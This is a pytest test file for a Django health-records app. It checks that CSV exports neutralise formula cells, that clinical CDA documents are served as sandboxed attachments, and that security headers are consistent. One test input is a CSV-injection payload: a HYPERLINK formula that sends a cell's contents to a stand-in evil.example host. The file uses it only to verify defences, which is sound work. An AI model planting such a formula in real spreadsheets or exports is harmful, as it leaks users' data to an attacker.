"""Exports and documents served safely (issue 13, item 8): CSV cells never run as formulas, active document
types never render on Carnet's origin, and the security headers agree with each other."""

import csv
import io

import pytest
from django.urls import reverse

from access_control.actions import do_deposit_document
from plumbing.csv_safe import safe_cell, writer
from tests.api_fixtures import client_for, open_handle
from tests.portal_fixtures import _fresh_cache, signed_in, url  # noqa: F401

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1;"Ouvrir")'
CDA = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<ClinicalDocument xmlns="urn:hl7-org:v3"><typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>'
    b'<code code="11502-2" codeSystem="2.16.840.1.113883.6.1"/></ClinicalDocument>'
)


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_formula_cells_are_prefixed_with_an_apostrophe(cell):
    assert safe_cell(cell) == "'" + cell
    out = io.StringIO()
    writer(out).writerow([cell, 3, -4, "Dr Lambert"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + cell, "3", "-4", "Dr Lambert"]


@pytest.mark.django_db
def test_a_practitioner_chosen_title_is_text_in_the_patients_trail_csv__T3(client, personas):
    from io import BytesIO

    from records.personas import minimal_pdf

    do_deposit_document(
        personas.alice,
        actor=personas.david,
        fileobj=BytesIO(minimal_pdf("x", ["y"])),
        document_type="11488-4",
        title=HYPERLINK,
    )
    signed_in(client, personas.alice)
    body = b"".join(client.get(url("trail_csv")).streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), [c for c in cells if "HYPER" in c]
    assert "'" + HYPERLINK in cells


# --- Documents: never active inline ------------------------------------------------------------------------

SANDBOX = "sandbox; default-src 'none'"


@pytest.fixture
def cda(personas):
    return do_deposit_document(
        personas.alice, actor=personas.david, fileobj=io.BytesIO(CDA), document_type="11488-4", title="CR CDA"
    )


@pytest.mark.django_db
def test_cda_is_an_attachment_under_a_sandbox_on_every_door(personas, cda, client):
    david = client_for(personas.david)
    opened = open_handle(david, personas.alice)
    rest = david.get(reverse("api-pro-content", args=[opened, cda.pk]))
    fhir = david.get(f"/fhir/Binary/{cda.pk}")
    alice_api = client_for(personas.alice.user).get(reverse("api-patient-content", args=[personas.alice.pk, cda.pk]))
    signed_in(client, personas.alice)
    portal = client.get(url("document_inline", cda.pk))
    for response in (rest, fhir, alice_api, portal):
        assert response.status_code == 200, response
        assert response["Content-Disposition"].startswith("attachment"), response["Content-Disposition"]
        assert response["Content-Security-Policy"].startswith(SANDBOX)
        assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_a_pdf_is_framed_only_by_carnets_own_viewer(personas, client):
    signed_in(client, personas.alice)
    document = personas.alice.documents.filter(content_type="application/pdf").first()
    response = client.get(url("document_inline", document.pk))
    assert response["Content-Disposition"].startswith("inline")
    assert response["Content-Security-Policy"] == "frame-ancestors 'self'"
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert response["X-Content-Type-Options"] == "nosniff"


# --- Headers -----------------------------------------------------------------------------------------------


def _frame_ancestors(response) -> str:
    directives = dict(
        part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";") if " " in part.strip()
    )
    return directives["frame-ancestors"]


@pytest.mark.django_db
def test_pages_and_api_answers_carry_agreeing_security_headers(client, personas):
    page = client.get(reverse("patients:login"))
    api = client_for(personas.david).get(reverse("api-pro-activity"))
    for response in (page, api):
        assert response["X-Frame-Options"] == "DENY"
        assert "camera=()" in response["Permissions-Policy"] and "geolocation=()" in response["Permissions-Policy"]
        assert response["X-Content-Type-Options"] == "nosniff"
    assert _frame_ancestors(page) == "'none'"
